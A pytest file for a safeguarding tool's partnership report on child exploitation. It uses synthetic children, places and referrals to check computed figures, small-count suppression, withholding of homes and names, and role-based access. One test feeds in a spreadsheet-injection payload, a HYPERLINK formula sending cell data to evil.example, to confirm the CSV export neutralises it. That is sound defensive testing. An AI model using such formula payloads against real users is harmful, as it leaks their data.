"""The partnership report on a small area whose every figure is worked out by hand here, on each
store; its HTML and PDF rendered (the PDF's pages kept as pictures), and its rules: who may make
one, what it counts for them, what is logged, and what bad input is told."""

from __future__ import annotations

import csv
import io
import json
import math
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from contextgraph.errors import BadInput
from contextgraph.interchange import entity_from_json
from contextgraph.model.demographics import ETHNICITY
from contextgraph.model.tracked import Tracked
from contextgraph.partnership import census as tables
from contextgraph.partnership.build import build
from contextgraph.partnership.holdings import period
from contextgraph.partnership.render import plain, suppressed, to_csv, to_html
from contextgraph.partnership.representation import representation
from contextgraph.service.auth import ENV_LOCAL_KEY, LocalKeys
from contextgraph.store import Filter, Store

from .conftest import IN_CI
from .data import rel
from .service import Service, running
from .test_api_writes import log_of

ARTIFACTS = Path(__file__).resolve().parent / "artifacts"
PERIOD = period("2025-01-01", "2025-03-31")


def child(cid: str, locality: str | None, **props: Any) -> dict[str, Any]:
    e: dict[str, Any] = {"id": cid, "kind": "child", "name": f"Child {cid.upper()}", "dob": props.pop("dob", None)}
    if locality:
        e["locality"] = locality
    if props:
        e["properties"] = props
    return {k: v for k, v in e.items() if v is not None}


ENTITIES = [
    child("c1", "East", sex="male", ethnicity="black_caribbean", dob="2010-05-01"),
    child("c2", "East", sex="female", ethnicity="white_british", dob="2011-02-01"),
    child("c3", "West", sex="male", ethnicity="not_known", dob="2009-09-09"),
    child("c4", "East", sex="female", ethnicity="white_british", dob="2008-01-20"),
    child("c5", "East", sex="male", ethnicity="black_caribbean", dob="2012-07-07"),
    child("c6", "West", sex="male", ethnicity="asian_pakistani", dob="2008-03-03"),
    child("c7", None),
    {"id": "l1", "kind": "location", "name": "Carrow Park skate area", "locality": "East", "lat": 52.6, "lon": -1.1},
    {"id": "l2", "kind": "location", "name": "12 Hill Rise", "locality": "East", "lat": 52.61, "lon": -1.1,
     "properties": {"place_type": "home"}},
    {"id": "l3", "kind": "location", "name": "the old mill", "locality": "West"},
    {"id": "p1", "kind": "person_of_concern", "name": "Daniel Okafor", "locality": "East"},
    {"id": "g1", "kind": "group", "name": "the Carrow lot", "locality": "East"},
]  # fmt: skip


def rec(i: str, kind: str, subject: str, when: str, **fields: Any) -> Tracked:
    grading = fields.pop("grading", None)
    return Tracked(i, kind, subject, when, "form-1", "ana", grading=grading, fields=fields)


TEAM = "EXPLOITATION_TEAM"
RECORDS = [
    rec("r1", "referral", "c1", "2025-01-10", source_agency="school", decision="accepted", decision_date="2025-01-12",
        exploitation_types=["CCE", "COUNTY_LINES"]),
    rec("r2", "referral", "c2", "2025-02-01", source_agency="police", decision="rejected",
        reason="threshold not met, said Child C3's mother", reason_code="BELOW_THRESHOLD", exploitation_types=["CSE"],
        grading="2B C"),
    rec("r3", "referral", "c3", "2025-03-15", source_agency="police", decision="pending", exploitation_types=["CCE"]),
    rec("r4", "referral", "c4", "2024-11-01", source_agency="school", decision="accepted", decision_date="2024-11-05",
        exploitation_types=["GANGS"]),
    rec("r5", "referral", "c5", "2025-02-20", source_agency="health", decision="accepted", decision_date="2025-02-21",
        to_service=TEAM),
    rec("se6", "service_episode", "c6", "2024-06-01", service_code=TEAM, closed="2024-12-01"),
    rec("a1", "risk_assessment", "c4", "2024-11-10", level="green"),
    rec("a2", "risk_assessment", "c4", "2025-02-01", level="amber"),
    rec("a3", "risk_assessment", "c1", "2025-01-15", level="amber"),
    rec("a4", "risk_assessment", "c1", "2025-03-01", level="red"),
    rec("a5", "risk_assessment", "c6", "2024-07-01", level="red"),
    rec("m0", "missing_episode", "c1", "2024-12-20T21:00", returned="2024-12-21T08:00"),
    rec("m1", "missing_episode", "c1", "2025-01-05T22:00", returned="2025-01-06T10:00", found_at="l1",
        with_children=["c2"], interview_date="2025-01-08", interview_by=TEAM),
    rec("m2", "missing_episode", "c2", "2025-01-05T22:30", returned="2025-01-06T11:00", found_at="l1",
        with_children=["c1"], interview_declined=True),
    rec("m3", "missing_episode", "c1", "2025-02-10T20:00", returned="2025-02-11T09:00", found_at="l2",
        with_children=["c2"], interview_date="2025-02-16"),
    rec("m4", "missing_episode", "c3", "2025-03-01T19:00", found_at="l3", out_of_area=True, interview_offered=False),
    rec("k1", "custody", "c1", "2024-06-01T10:00"),
    rec("k2", "custody", "c4", "2025-01-10T02:00"),
    rec("k3", "custody", "c4", "2024-01-01T23:00"),
    rec("i1", "investigation", "c1", "2024-09-01", role="suspect"),
    rec("i2", "investigation", "c5", "2025-03-10", role="victim"),
    rec("i3", "investigation", "c6", "2024-08-01", role="witness"),
    rec("o1", "outcome_review", "c4", "2025-03-01", left=True, benchmarks=["REDUCED_RISK", "REDUCED_MISSING"],
        scores=[{"respondent": "child", "stage": "start", "question": "How safe do you feel?", "score": 4},
                {"respondent": "child", "stage": "end", "question": "How safe do you feel?", "score": 8},
                {"respondent": "parent", "stage": "start", "question": "How safe do you feel?", "score": 5},
                {"respondent": "parent", "stage": "end", "question": "How safe do you feel?", "score": 7}]),
    rec("o2", "outcome_review", "c7", "2025-02-01",
        scores=[{"respondent": "child", "stage": "start", "question": "How safe do you feel?", "score": 6}]),
    rec("pl1", "plan", "c1", "2025-01-20", plan_kind="CHILD_PLAN", status="open"),
    rec("pl2", "plan", "l1", "2025-02-01", plan_kind="NEIGHBOURHOOD_CONFERENCE", status="open",
        actions=[{"action": "patrols at night", "owner": "police", "status": "open"},
                 {"action": "CCTV", "owner": "council", "status": "done"}]),
    rec("pl3", "plan", "g1", "2025-03-05", plan_kind="PEER_GROUP_CONFERENCE"),
    rec("d1", "disruption", "p1", "2025-02-02", disruption_kind="CAWN", children=["c1"],
        outcome="served on Daniel Okafor about Child C1", result="SERVED"),
    rec("d2", "disruption", "l1", "2025-03-03", disruption_kind="CLOSURE_ORDER"),
]  # fmt: skip

CENSUS_ETHNICITY = {c: 10 for c in ETHNICITY if c not in ("not_known", "not_stated")} | {
    "white_british": 700,
    "black_caribbean": 50,
    "asian_pakistani": 60,
}


def write_census(folder: Path) -> list[Path]:
    """An ethnicity table (each locality the same) and a sex table, in the ONS layout."""
    eth, sex = folder / "ethnicity.csv", folder / "sex.csv"
    with eth.open("w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(
            ["Areas Code", "Areas", "Ethnic group (20 categories) Code", "Ethnic group (20 categories)", "Observation"]
        )
        for area in ("East", "West"):
            w.writerow(["A", area, -8, "Does not apply", 0])
            for k, (code, n) in enumerate(CENSUS_ETHNICITY.items(), 1):
                w.writerow(["A", area, k, ETHNICITY[code], n])
    with sex.open("w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["Areas Code", "Areas", "Sex (2 categories) Code", "Sex (2 categories)", "Observation"])
        for area in ("East", "West"):
            w.writerow(["A", area, 1, "Female", 480])
            w.writerow(["A", area, 2, "Male", 520])
    return [eth, sex]


@pytest.fixture
def area(store: Store) -> Store:
    store.upsert([entity_from_json(e) for e in ENTITIES], [], tracking=RECORDS)
    return store


def test_each_section_gives_the_figures_worked_out_by_hand(area: Store, tmp_path: Path) -> None:
    census = tables.read(write_census(tmp_path), None)
    got = plain(build(area, PERIOD, census=census))
    # 1. referrals in the period: r1, r2, r3, r5 (r4 is before it)
    r = got["referrals"]
    assert (r["total"], r["children"]) == (4, 4)
    assert r["by_decision"] == {"accepted": 2, "rejected": 1, "pending": 1}
    assert r["by_agency"] == {"police": 2, "health": 1, "school": 1}
    assert r["by_locality"] == {"East": 3, "West": 1}
    assert r["by_type"] == {"CCE": 2, "COUNTY_LINES": 1, "CSE": 1}
    assert r["rejected_reasons"] == {"does not meet the threshold for the team": 1}  # as coded, never the words
    assert (r["accepted"], r["to_plan"]) == (2, 1)  # c1's plan of 20 January; c5 has none
    # 2. caseload on 31 March: c1 (from 12 January) and c5 (from 21 February); c4 left on 1 March,
    # c6's spell closed in December
    c = got["caseload"]
    assert (c["children"], c["started"], c["ended"], c["capacity"]) == (2, 2, 1, None)
    assert c["by_level"] == {"green": 0, "amber": 0, "red": 1, "not assessed": 1}
    # 3. pathway: c4 green before, left in the period; c1 new, red at the end; c6 gone before it
    p = got["pathway"]
    assert p["transitions"] == {
        "new": {"green": 0, "amber": 0, "red": 1, "left": 0},
        "green": {"green": 0, "amber": 0, "red": 0, "left": 1},
    }
    assert (p["new"], p["left"], p["stepped_up"], p["stepped_down"], p["same"]) == (1, 1, 0, 0, 0)
    assert (p["steps_up"], p["steps_down"]) == (2, 0)  # c4 green to amber, c1 amber to red
    # days in the period: c4 green 1 Jan-1 Feb (31), amber 1 Feb-1 Mar (28, then left);
    # c1 amber 15 Jan-1 Mar (45), red 1 Mar-31 Mar inclusive (31)
    assert p["mean_days"] == {"green": 31.0, "amber": 36.5, "red": 31.0}
    # 4. missing: m1-m4 (m0 is before the period)
    m = got["missing"]
    assert (m["episodes"], m["children"], m["per_child"]) == (4, 3, 1.33)
    assert (m["interviews_done"], m["within_72_hours"], m["declined"], m["not_offered"]) == (2, 1, 1, 1)
    assert m["no_interview_recorded"] == 0 and m["out_of_area"] == 1
    assert m["ended_at"] == {"Carrow Park skate area": 2, "a home (the address is not shown)": 1, "the old mill": 1}
    assert (m["together"], m["pairs"], m["repeat_pairs"]) == (3, 1, 1)
    assert "12 Hill Rise" not in json.dumps(got)  # a home is never named
    # 5. before and during: c1 (from 12 Jan 2025), c4 (5 Nov 2024 to 1 Mar 2025), c5 (21 Feb 2025),
    # c6 (1 Jun to 1 Dec 2024): a year before each, and 78 + 116 + 38 + 183 days since
    b = got["before_and_during"]
    years_before, years_during = 4 * 365 / 365.25, (78 + 116 + 38 + 183) / 365.25
    assert (b["children"], b["years_before"], b["years_during"]) == (4, round(years_before, 2), round(years_during, 2))
    rows = {row["measure"]: row for row in b["rows"]}
    expected = {  # m0 m1 before c1 started, m3 after; k1 k3 before, k2 during; i1 before; i2 i3 during
        "missing episodes": (2, 1),
        "custody records": (2, 1),
        "investigations as a suspect": (1, 0),
        "investigations as a victim": (0, 1),
        "investigations as a witness": (0, 1),
    }
    for name, (before, during) in expected.items():
        row = rows[name]
        assert (row["before"], row["during"]) == (before, during), name
        assert row["rate_before"] == round(before / years_before, 3)
        assert row["rate_during"] == round(during / years_during, 3)
        assert row["small"]  # four children: too few to mean much
    assert rows["missing episodes"]["change"] == round((1 / years_during - 2 / years_before) / (2 / years_before), 3)
    assert "too small to mean much" in b["warning"]
    # 6. outcomes: o1 (left; two benchmarks; four answers) and o2 (none met; one answer)
    o = got["outcomes"]
    assert (o["reviews"], o["left"], o["no_benchmark"]) == (2, 1, 1)
    assert o["benchmarks"]["REDUCED_RISK"] == 1 and o["benchmarks"]["REDUCED_MISSING"] == 1
    assert sum(o["benchmarks"].values()) == 2
    assert [(s["respondent"], s["stage"], s["mean"], s["count"]) for s in o["scores"]] == [
        ("child", "start", 5.0, 2),
        ("child", "end", 8.0, 1),
        ("parent", "start", 5.0, 1),
        ("parent", "end", 7.0, 1),
    ]
    # 7. contexts and disruption
    x = got["contexts"]
    assert x["plans_by_kind"] == {"CHILD_PLAN": 1, "NEIGHBOURHOOD_CONFERENCE": 1, "PEER_GROUP_CONFERENCE": 1}
    assert x["plans_about"] == {"child": 1, "group": 1, "location": 1}
    assert (x["actions"], x["actions_open"], x["children_named"]) == (2, 1, 1)
    assert x["disruptions_by_kind"] == {"CAWN": 1, "CLOSURE_ORDER": 1}
    assert x["disruptions_against"] == {"location": 1, "person_of_concern": 1}
    assert x["disruption_results"] == {"not coded": 1, "notice or order served": 1}
    assert x["plans"] == 3
    text = json.dumps(got)
    assert "Child C" not in text and "Okafor" not in text  # free text, which names people, is never shown
    # 9. data quality: the period's records are about c1, c2, c3, c4, c5 and c7
    q = got["quality"]
    assert q["children"] == 6
    assert (q["no_ethnicity"], q["no_sex"], q["no_date_of_birth"], q["no_locality"]) == (2, 1, 1, 1)
    assert (q["reviews_without_benchmarks"], q["episodes_without_return"], q["places_not_located"]) == (1, 1, 1)
    # 8. over-representation: the referred (c1, c2, c3, c5) by ethnicity: c3 not known; two of
    # three recorded are Black Caribbean, against 50 in the census's 1,000 (of 20 groups)
    population = sum(CENSUS_ETHNICITY.values())
    eth = next(d for d in got["representation"]["dimensions"] if d["dimension"] == "ethnicity")
    referred = next(c for c in eth["cohorts"] if c["name"] == "referred")
    assert (referred["children"], referred["not_known"]) == (4, 1)
    g = next(x for x in referred["groups"] if x["group"] == "black_caribbean")
    z = 1.959964
    n, k = 3, 2
    centre = (k / n + z * z / (2 * n)) / (1 + z * z / n)
    half = z * math.sqrt((k / n) * (1 - k / n) / n + z * z / (4 * n * n)) / (1 + z * z / n)
    share = 50 / population
    assert g["count"] == 2 and g["share"] == round(2 / 3, 3) and g["compared_share"] == round(share, 3)
    assert g["ratio"] == round((2 / 3) / share, 3)
    assert (g["low"], g["high"]) == (round((centre - half) / share, 3), round((centre + half) / share, 3))
    assert g["small"]  # two children: fewer than five


def test_the_top_of_the_ranking_against_the_known_cases_is_held_to_a_hand_computation() -> None:
    """The ratio of two shares, with its 95% Katz interval, and a finding in words when it lies
    wholly above 1."""
    people = {f"k{i}": entity_from_json(child(f"k{i}", "East", ethnicity="black_african")) for i in range(30)}
    people |= {f"w{i}": entity_from_json(child(f"w{i}", "East", ethnicity="white_british")) for i in range(400)}
    top = [f"k{i}" for i in range(20)] + [f"w{i}" for i in range(30)]  # 20 of 50
    known = [f"k{i}" for i in range(20, 30)] + [f"w{i}" for i in range(30, 400)]  # 10 of 380
    census = tables.Census({}, ())
    got = representation([("known", known)], top, known, people, census, "2025-03-31", 5)
    eth = next(d for d in got.dimensions if d.dimension == "ethnicity")
    g = next(x for x in eth.ranking_against_known if x.group == "black_african")
    ratio = (20 / 50) / (10 / 380)
    se = math.sqrt(1 / 20 - 1 / 50 + 1 / 10 - 1 / 380)
    assert g.ratio == round(ratio, 3)
    assert (g.low, g.high) == (round(ratio * math.exp(-1.959964 * se), 3), round(ratio * math.exp(1.959964 * se), 3))
    assert any("top of the ranking holds a larger share of Black" in f for f in got.findings)
    assert not eth.population  # no census table for it: shares only


def test_an_empty_period_says_so_and_does_not_fail(area: Store, tmp_path: Path) -> None:
    census = tables.read(write_census(tmp_path), None)
    made = build(area, period("2030-01-01", "2030-03-31"), census=census)
    html = to_html(made)
    for section in ("referrals", "missing", "outcomes", "quality"):
        part = html[html.index(f'<section id="{section}">') :]
        assert part[: part.index("</section>")].endswith('<p class="small">No records in this period.</p>'), section
    # the children still with the team are on the caseload, and their time since they started counts
    assert plain(made)["caseload"]["children"] == 2
    assert plain(made)["missing"]["per_child"] is None


def test_a_chair_counts_their_locality_and_handling_code_p_only(area: Store, tmp_path: Path) -> None:
    census = tables.read(write_census(tmp_path), "East")
    got = plain(build(area, PERIOD, Filter.of(localities=["East"], handling=["P"]), census=census))
    # r2 is graded C and r3 is about a West child: neither is counted
    assert got["referrals"]["total"] == 2 and got["referrals"]["by_locality"] == {"East": 2}
    assert got["handling"] == "P" and "handling code P" in got["marking"]
    assert got["missing"]["episodes"] == 3  # m4 is about a West child


def _small_numbers(value: Any, path: str = "") -> list[str]:
    """Where a whole number from 1 to 4 stands in plain data (a rank and the threshold apart)."""
    if isinstance(value, dict):
        return [
            p for k, v in value.items() if k not in ("rank", "small_count") for p in _small_numbers(v, f"{path}.{k}")
        ]
    if isinstance(value, list):
        return [p for i, v in enumerate(value) for p in _small_numbers(v, f"{path}[{i}]")]
    return [path] if isinstance(value, int) and not isinstance(value, bool) and 0 < value < 5 else []


def test_small_counts_are_suppressed_for_a_recipient_outside(area: Store, tmp_path: Path) -> None:
    """Every count from 1 to 4 is shown as <5, in lists too, and every figure worked out from one
    (a rate, a mean, a share, episodes per child) is left out, in every format."""
    census = tables.read(write_census(tmp_path), None)
    made = build(area, PERIOD, census=census, outside=True)
    got = plain(made)
    assert _small_numbers(got) == []
    assert got["referrals"]["total"] == "<5" and got["missing"]["episodes"] == "<5"
    assert got["missing"]["per_child"] is None
    assert all(r["rate_before"] is None or r["before"] == 0 for r in got["before_and_during"]["rows"])
    assert all(s["mean"] is None for s in got["outcomes"]["scores"])
    eth = next(d for d in got["representation"]["dimensions"] if d["dimension"] == "ethnicity")
    assert all(g["share"] is None for c in eth["cohorts"] for g in c["groups"] if g["count"] == "<5")
    assert got["pathway"]["transitions"]["new"]["green"] == 0  # a zero says nothing of anyone
    assert [h["rank"] for h in got["hotspots"]] == list(range(1, len(got["hotspots"]) + 1))
    csv_text, html = to_csv(made).decode(), to_html(made)
    assert "<5" in csv_text and "&lt;5" in html and "2025-01-01" in csv_text  # a date is not a count
    for line in csv_text.splitlines()[1:]:
        value = line.rsplit(",", 1)[-1]
        assert not (value.isdigit() and 0 < int(value) < 5) or "rank" in line or "small_count" in line, line


def test_no_small_count_can_be_worked_back_for_a_recipient_outside() -> None:
    """A small count hidden beside a total and others shown could be worked out by subtraction: a
    count beside it is hidden too (shown as withheld) until two or more are hidden and they add up
    to the threshold or more; every figure worked out from a hidden count — a rate, years, means
    by level, a share compared — is left out (shapes of the report's sections)."""
    cohort = {"name": "linked to harm, not open", "children": 29, "not_known": 2,
              "groups": [{"group": "female", "count": 11, "share": 0.41}, {"group": "male", "count": 16, "share": 0.59},
                         {"group": "other", "count": 0, "share": 0.0}]}  # fmt: skip
    known = [{"group": "female", "count": 3, "share": 0.6, "compared_share": 0.667, "low": 0.2},
             {"group": "male", "count": 30, "share": 0.4, "compared_share": 0.333, "low": 0.1}]  # fmt: skip
    during = {"children": 4, "years_before": 4.0, "years_during": 2.5, "rows": []}
    pathway = {"stepped_up": 2, "stepped_down": 0, "same": 9, "mean_days": {"amber": 106.5, "red": 52.5}}
    got = suppressed({"cohort": cohort, "known": known, "during": during, "pathway": pathway}, 5)
    c = got["cohort"]
    # the cohort's total is given again in its other dimensions: its parts are hidden instead
    assert (c["children"], c["not_known"]) == (29, "<5")  # not 29 - 11 - 16
    assert [g["count"] for g in c["groups"]] == ["withheld", 16, 0] and c["groups"][0]["share"] is None
    assert got["known"][0]["count"] == "<5" and got["known"][1]["count"] == "withheld"
    assert all(g["compared_share"] is None and g["low"] is None for g in got["known"])
    assert got["during"]["children"] == "<5" and got["during"]["years_before"] is None
    assert got["pathway"]["mean_days"] is None and got["pathway"]["same"] == "withheld"
    assert suppressed({"a": 7, "b": 0, "rate": 0.5}, 5) == {"a": 7, "b": 0, "rate": 0.5}  # nothing small: as it is
    # two small ones whose sum says what each is (4 and 4 of 8): a third is hidden with them
    assert suppressed({"by_level": {"green": 5, "amber": 4, "red": 4}}, 5)["by_level"] == dict.fromkeys(
        ("green", "amber", "red"), "<5"
    ) | {"green": "withheld"}
    hot = suppressed({"hotspots": [{"rank": 1, "children": 3, "children_at_risk": 2, "score": 1.5}]}, 5)
    assert hot["hotspots"][0]["rank"] == 1 and hot["hotspots"][0]["score"] is None  # a rank is not a count


def test_the_reports_csv_quotes_what_a_spreadsheet_would_run(area: Store, tmp_path: Path) -> None:
    """A place's name that reads as a formula is quoted in the report's CSV, as in the i2 export."""
    named = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    wide = "\uff1dHYPERLINK(1)"
    places = [
        entity_from_json({"id": i, "kind": "location", "name": n, "locality": "East"})
        for i, n in (("l9", named), ("l8", wide))
    ]
    seen = [rel("SEEN_AT", x, place, day="2025-02-01") for x in ("c1", "c2", "p1") for place in ("l9", "l8")]
    area.upsert(places, [rel("EXPLOITS", "p1", "c1", day="2025-02-01"), *seen])
    text = to_csv(build(area, PERIOD)).decode()
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert any(named in c for c in cells) and any(wide in c for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\uff1d") and not _number(c)], cells


def _number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


def test_a_home_is_never_named(area: Store, tmp_path: Path) -> None:
    """A place someone lives at is counted as a home, wherever it appears, whether or not it is
    marked as one: where episodes ended, and among the hotspots."""
    from contextgraph.interchange import relationship_from_json

    lives = {"type": "LIVES_AT", "source": "c3", "target": "l3", "source_ref": "n1", "date": "2025-01-01"}
    area.upsert([], [relationship_from_json(lives)])
    got = plain(build(area, PERIOD, census=tables.read(write_census(tmp_path), None)))
    assert got["missing"]["ended_at"] == {"a home (the address is not shown)": 2, "Carrow Park skate area": 2}
    text = json.dumps(got)
    assert "the old mill" not in text and "12 Hill Rise" not in text


def test_a_report_of_several_localities_says_which_and_compares_with_theirs(area: Store, tmp_path: Path) -> None:
    paths = write_census(tmp_path)
    two = tables.read(paths, ["East", "West"])
    assert sum(two.counts["sex"].values()) == 2000  # both localities' rows, summed
    made = build(area, PERIOD, Filter.of(localities=["East", "West"]), census=two)
    assert made.where == "East and West" and "Partnership report: East and West" in to_html(made)
    assert build(area, PERIOD, census=two).where == "every locality"


def test_without_a_census_table_the_report_gives_shares_and_says_why(area: Store, tmp_path: Path) -> None:
    alone = tables.for_report([], None)
    got = plain(build(area, PERIOD, census=alone))
    assert "no census table is configured" in got["representation"]["note"]
    assert "no census table is configured" in to_html(build(area, PERIOD, census=alone))
    missing_rows = tables.for_report(write_census(tmp_path), ["Atlantis"])
    assert missing_rows.counts == {} and "no rows for Atlantis" in (missing_rows.note or "")


def test_levels_no_longer_configured_are_counted_and_not_called_steps(
    area: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CONTEXTGRAPH_PATHWAY_LEVELS", "low,high")
    got = plain(build(area, PERIOD, census=tables.read(write_census(tmp_path), None)))
    c = got["caseload"]
    assert sum(c["by_level"].values()) == c["children"] == 2 and c["by_level"]["red"] == 1
    p = got["pathway"]
    assert (p["stepped_up"], p["stepped_down"]) == (0, 0)  # green, amber and red are not on this pathway


def test_a_census_table_without_a_group_or_of_another_layout_is_refused(tmp_path: Path) -> None:
    eth, _ = write_census(tmp_path)
    lines = [line for line in eth.read_text().splitlines() if "Roma" not in line]
    eth.write_text("\n".join(lines) + "\n")
    with pytest.raises(BadInput, match="no figure for white_roma"):
        tables.read([eth], None)
    bad = tmp_path / "bad.csv"
    bad.write_text("area,group,count\nEast,White,3\n")
    with pytest.raises(BadInput, match=r"bad\.csv:1: not a census table"):
        tables.read([bad], None)
    with pytest.raises(BadInput, match="the period ends"):
        period("2025-03-01", "2025-01-01")
    with pytest.raises(BadInput, match="--from: '2025-13-01' is not a date"):
        period("2025-13-01", "2025-12-31")


def test_the_html_and_pdf_are_rendered_and_every_page_carries_the_marking_and_period(
    area: Store, tmp_path: Path
) -> None:
    if not (shutil.which("chromium") and shutil.which("pdftoppm")):  # both are used
        if IN_CI:
            pytest.fail("chromium and poppler-utils are missing: .ci/run installs them")
        pytest.skip("chromium or pdftoppm is missing")
    from contextgraph.partnership.pdf import to_pdf

    census = tables.read(write_census(tmp_path), None)
    html = to_html(build(area, PERIOD, census=census))
    assert html.count("<svg") >= 4 and "<script" not in html and "<metadata" not in html
    assert not re.search(r"""(src|href)=["']?(https?:|//)|url\((https?:|//)|<link""", html), "it loads nothing"
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(to_pdf(html))
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, check=True, text=True).stdout
    pages = [p for p in text.split("\f") if p.strip()]
    assert len(pages) >= 3
    for page in pages:
        assert "OFFICIAL-SENSITIVE" in page and "2025-01-01 to 2025-03-31" in page
    assert "Child C1" not in text  # no child is named
    ARTIFACTS.mkdir(exist_ok=True)
    subprocess.run(["pdftoppm", "-r", "50", "-png", str(pdf), str(ARTIFACTS / "report-page")], check=True)
    assert (ARTIFACTS / "report-page-1.png").exists()


QUERY = """query($from: String!, $to: String!, $l: String, $r: String) {
  report(from: $from, to: $to, locality: $l, recipient: $r) { figures html marking } }"""


@pytest.fixture
def served(area: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    key = tmp_path / "service.key.pem"
    monkeypatch.setenv(ENV_LOCAL_KEY, str(key))
    monkeypatch.setenv("CONTEXTGRAPH_CENSUS", ",".join(str(p) for p in write_census(tmp_path)))
    with running(area.url, LocalKeys(key)) as svc:
        yield svc


def test_the_report_through_graphql_follows_the_roles_and_is_logged(served: Service, _audit_log: Path) -> None:
    between = {"from": "2025-01-01", "to": "2025-03-31"}
    analyst = served.token("analyst", ("East", "West"))
    got = served.data(QUERY, analyst, **between)["report"]
    assert got["figures"]["referrals"]["total"] == 4 and "<svg" in got["html"]
    chair = served.token("chair", ("East",), user="chair-1")
    mine = served.data(QUERY, chair, **between)["report"]
    assert mine["figures"]["referrals"]["total"] == 2 and "handling code P" in mine["marking"]
    assert "not one of your localities" in served.error(QUERY, chair, **between, l="West")
    mace = served.token("mace", ("East",), user="mace-1")
    assert "does not allow the partnership report" in served.error(QUERY, mace, **between)
    backwards = {"from": "2025-03-01", "to": "2025-01-01"}
    assert "ends (2025-01-01) before it starts" in served.error(QUERY, analyst, **backwards)
    assert "is not a date" in served.error(QUERY, analyst, **{"from": "last week", "to": "2025-01-01"})
    served.data(QUERY, analyst, **between, r="MACE board")
    last = log_of(_audit_log)[-1]
    assert (last["operation"], last["recipient"], last["subjects"]) == ("disclosure", "MACE board", [])
    assert last["detail"]["from"] == "2025-01-01"
    _, body = served.post(QUERY, analyst, "", between)
    assert body.get("errors"), "a report needs a purpose"


def test_the_reports_ranking_is_the_analysis_order(tmp_path: Path) -> None:
    """The report counts the ranking without explaining it: the same children in the same order,
    and the same hotspots, as the whole analysis gives."""
    from contextgraph.analysis.ranked import ranked
    from contextgraph.analysis.report import analyse_store
    from contextgraph.interchange import relationship_from_json
    from contextgraph.interchange.synth import generate
    from contextgraph.store import open_store

    data = generate(children=400, seed=4)
    with open_store(f"sqlite:///{tmp_path / 'area.db'}") as s:
        s.upsert(
            [entity_from_json(e) for e in data.entities],
            [relationship_from_json(r) for r in data.relationships],
            tracking=[Tracked.from_json(t) for t in data.tracking],
        )
        for flt in (None, Filter.of(localities=["East"], handling=["P"])):
            whole = analyse_store(s, as_of="2025-03-31", flt=flt, localities=["East"] if flt else None)
            alone = ranked(s, as_of="2025-03-31", flt=flt, localities=["East"] if flt else None)
            assert list(alone.children) == [c.id for c in whole.unopened_at_risk] and alone.children
            assert [h.id for h in alone.hotspots] == [h.id for h in whole.hotspots[:10]]


def test_out_dash_writes_the_report_to_standard_output(area: Store, tmp_path: Path, _audit_log: Path) -> None:
    """``--out -`` is standard output, not a file named "-"; what was written is said on standard
    error, and the disclosure is logged as to standard output."""
    from .cli import cg

    args = ("report", "--from", "2025-01-01", "--to", "2025-03-31", "--recipient", "CSC", "--purpose", "MACE")
    r = cg(*args, "--format", "json", "--out", "-", store=area, cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["referrals"]["total"] == plain(build(area, PERIOD))["referrals"]["total"] > 0
    assert "to standard output" in r.stderr
    assert not (tmp_path / "-").exists()
    last = log_of(_audit_log)[-1]
    assert last["operation"] == "disclosure" and last["detail"]["file"] == "-"  # type: ignore[index]
    # ./- is a file of that name, as a shell means it
    r = cg(*args, "--format", "json", "--out", "./-", store=area, cwd=tmp_path)
    assert r.returncode == 0 and r.stdout.startswith("wrote") and (tmp_path / "-").exists(), r.stderr
    # standard output that cannot be written: said in a line, as for a file, not a traceback
    with open("/dev/full", "wb") as full:
        cmd = [sys.executable, "-m", "contextgraph", *args, "--format", "json", "--out", "-", "--store", area.url]
        told = subprocess.run(cmd, stdout=full, stderr=subprocess.PIPE, text=True, timeout=300, check=False)
    assert told.returncode == 1 and "standard output: cannot write the report" in told.stderr, told.stderr
    assert "Traceback" not in told.stderr


def test_a_report_replaces_no_file_unasked_and_writes_nowhere_it_cannot(
    area: Store, tmp_path: Path, _audit_log: Path
) -> None:
    """A file already there is kept unless --force; a folder of the report's name, or a path
    under a file, is said in a line before anything is made or logged, never a traceback."""
    from .cli import cg

    args = ("report", "--from", "2025-01-01", "--to", "2025-03-31", "--recipient", "CSC", "--purpose", "MACE")
    keep = tmp_path / "keep.txt"
    keep.write_text("precious")
    (tmp_path / "afile").write_text("x")
    (tmp_path / "rdir" / "report-all-2025-01-01-2025-03-31.json").mkdir(parents=True)
    before = len(log_of(_audit_log)) if _audit_log.exists() else 0
    for out, said in (
        ("keep.txt", "a file is already there"),
        ("afile/x.json", "no such folder"),
        ("rdir", "a folder has the report's name"),
    ):
        r = cg(*args, "--format", "json", "--out", out, store=area, cwd=tmp_path)
        assert r.returncode == 1 and said in r.stderr and "Traceback" not in r.stderr, (out, r.stderr)
    assert keep.read_text() == "precious"
    assert (len(log_of(_audit_log)) if _audit_log.exists() else 0) == before  # nothing logged as given
    r = cg(*args, "--format", "json", "--out", "keep.txt", "--force", store=area, cwd=tmp_path)
    assert r.returncode == 0 and json.loads(keep.read_text())["referrals"], r.stderr
    assert log_of(_audit_log)[-1]["operation"] == "disclosure"
